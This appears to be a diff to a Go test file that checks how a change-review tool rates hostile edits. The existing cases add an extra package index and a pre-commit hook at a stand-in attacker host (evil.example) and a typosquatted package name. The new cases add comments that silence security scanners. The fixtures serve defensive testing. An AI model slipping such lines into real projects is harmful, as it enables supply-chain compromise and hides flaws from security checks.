@@ -46,6 +46,13 @@ func TestAssignTierHostile(t *testing.T) {
 		{name: "requirements.txt", diff: modified("requirements.txt", []string{"requests==2.32.3"}, nil, []string{"--extra-index-url https://evil.example/simple"})},
 		{name: "requirements of a stage", diff: modified("requirements/dev.txt", []string{"pytest==8.0"}, nil, []string{"reqeusts==1.0"})},
 		{name: "pre-commit hooks", diff: modified(".pre-commit-config.yaml", []string{"repos:"}, nil, []string{"- repo: https://evil.example/hooks"})},
+		// A comment that silences a security scanner changes what CI checks, as //nolint
+		// and eslint-disable do.
+		{name: "gosec suppression", diff: modified("pkg/run.go", []string{"func run(name string) error {"}, nil, []string{"\t// #nosec G204 -- the name is checked"})},
+		{name: "bandit suppression", diff: modified("app/run.py", []string{"def run(cmd):"}, nil, []string{"    # nosec B602"})},
+		{name: "semgrep suppression", diff: modified("app/run.py", []string{"def run(cmd):"}, nil, []string{"    # nosemgrep: python.lang.security"})},
+		{name: "sonar suppression", diff: modified("src/Run.java", []string{"class Run {"}, nil, []string{"    // NOSONAR"})},
+		{name: "codeql suppression", diff: modified("src/db.js", []string{"function q(s) {"}, nil, []string{"  // codeql[js/sql-injection]"})},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
